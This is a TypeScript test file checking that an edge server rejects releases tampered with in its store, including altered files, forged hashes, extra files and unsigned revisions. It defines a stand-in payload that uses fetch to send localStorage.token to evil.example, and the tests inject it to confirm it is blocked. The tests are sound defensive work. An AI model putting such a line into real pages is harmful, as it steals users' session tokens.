import type { FastifyInstance } from 'fastify';
import { integrityOf } from 'server-kit/integrity';
import { temporaryFolder } from 'server-kit/testing/temporaryFolder';
import type { EdgeSettings } from '../env';
import { publish } from '../publish/publish';
import { verify } from '../publish/verify';
import { openStore, type Store } from '../store/store';
import { fakeRelease, fakeShell, remoteServer } from '../testing/fakeReleases';
import { quietSettings } from '../testing/quietSettings';
import { trustedTeams } from '../testing/trustedTeams';
import { NewestSeen } from '../trust/NewestSeen';
import { buildEdge } from './app';

const AUTHOR = { by: 'test', reason: 'test' };
const EVIL = 'fetch("https://evil.example?" + localStorage.token)';
const PREFIX = 'releases/remote-x/1.0.0-aaaaaaaa/';
const CHUNK = 'page.22222222.js';

let settings: EdgeSettings;
let store: Store;
let edge: FastifyInstance;
let teams: ReturnType<typeof begin>;
const begin = () => trustedTeams(['all'], 1);

beforeEach(async () => {
  teams = begin();
  const DATA_DIR = temporaryFolder('edge');
  settings = quietSettings({ DATA_DIR });
  store = { ...openStore(settings.storeUrl), guard: teams.all };
  await publish(store, [fakeShell(), aRemote('1.0.0-aaaaaaaa')], AUTHOR);
});
afterEach(() => edge.close());

/** An attacker with write access to the store changes a file and its hash in release.json. */
async function tamper(file: 'server.cjs' | typeof CHUNK, text: string): Promise<void> {
  const release = JSON.parse(String(await store.read(`${PREFIX}release.json`)));
  const described = file === 'server.cjs' ? release.server : release.files[file];
  described.integrity = integrityOf(text);
  await store.replace(PREFIX + file, text);
  await store.replace(`${PREFIX}release.json`, JSON.stringify(release));
}

describe.each([
  ['with keys', () => store],
  ['without keys', () => openStore(settings.storeUrl)],
])('a release that was changed in a store %s, together with its release.json', (_keys, read) => {
  it('is in no document of an edge that starts afterwards', async () => {
    await tamper(CHUNK, EVIL);
    edge = await buildEdge(settings, read());
    const { body } = await edge.inject('/my/startups');
    expect(body).toContain('1.0.0-aaaaaaaa');
    expect(body).not.toContain(integrityOf(EVIL));
    expect((await verify(read(), 1)).join()).toContain(
      `${PREFIX}release.json is not what was published`,
    );
  });

  it('is not run on the edge', async () => {
    await tamper('server.cjs', remoteServer('EVIL'));
    edge = await buildEdge(settings, read());
    const { body, headers } = await edge.inject('/');
    expect(headers['x-rendered']).toBe('client');
    expect(body).not.toContain('EVIL');
  });

  it('stays unchanged for a running edge', async () => {
    edge = await buildEdge(settings, read());
    await edge.inject('/');
    await tamper(CHUNK, EVIL);
    const { body } = await edge.inject({
      url: '/my/startups',
      headers: { cookie: '__Host-session=x' },
    });
    expect(body).not.toContain(integrityOf(EVIL));
    expect(body).toContain(`${CHUNK}" integrity="sha384-`);
  });

  it('gives no browser a file that differs, compressed or not, until the right one is restored', async () => {
    const right = (await store.read(PREFIX + CHUNK))!;
    edge = await buildEdge(settings, read());
    const ask = async (encoding: string) =>
      (await edge.inject({ url: `/${PREFIX}${CHUNK}`, headers: { 'accept-encoding': encoding } }))
        .statusCode;
    expect(await ask('identity')).toBe(200);
    await store.replace(PREFIX + CHUNK, right.toString().replace('log', 'dir')); // of the same length
    expect([await ask('identity'), await ask('br')]).toEqual([404, 404]);
    expect((await verify(read(), 1)).join()).toContain(CHUNK);
    await store.replace(PREFIX + CHUNK, right);
    expect([await ask('identity'), await ask('br')]).toEqual([200, 200]);
    await store.replace(`${PREFIX}${CHUNK}.br`, right);
    expect(await ask('br')).toBe(404);
  });

  it('has no additional files', async () => {
    await store.create(`${PREFIX}evil.js`, EVIL);
    edge = await buildEdge(settings, read());
    expect((await edge.inject(`/${PREFIX}evil.js`)).statusCode).toBe(404);
    expect((await edge.inject(`/${PREFIX}${CHUNK}`)).statusCode).toBe(200);
  });
});

it('an unsigned revision is not used, and the previous one stays', async () => {
  edge = await buildEdge(settings, { ...openStore(settings.storeUrl), guard: teams.reader });
  expect((await edge.inject('/')).body).toContain('1.0.0-aaaaaaaa');
  await publish(openStore(settings.storeUrl), [aRemote('6.6.6-66666666')], AUTHOR);
  const { body } = await edge.inject('/');
  expect(body).toContain('1.0.0-aaaaaaaa');
  expect(body).not.toContain('6.6.6');
  expect((await edge.inject('/registry.json')).body).not.toContain('6.6.6');
  expect((await edge.inject('/edge/health')).json()).toMatchObject({ revision: 1 });

  await edge.close(); // an edge that starts now shows the same
  const guard = { trust: teams.trust, seen: new NewestSeen(teams.trust.store) };
  edge = await buildEdge(settings, { ...openStore(settings.storeUrl), guard });
  expect((await edge.inject('/registry.json')).json()).toMatchObject({ revision: 1 });
});

function aRemote(id: string) {
  const routes = [
    { path: '/', prerender: true },
    { path: '/my/startups', access: 'member' as const },
  ];
  return fakeRelease({ name: 'remote-x', id, routes });
}
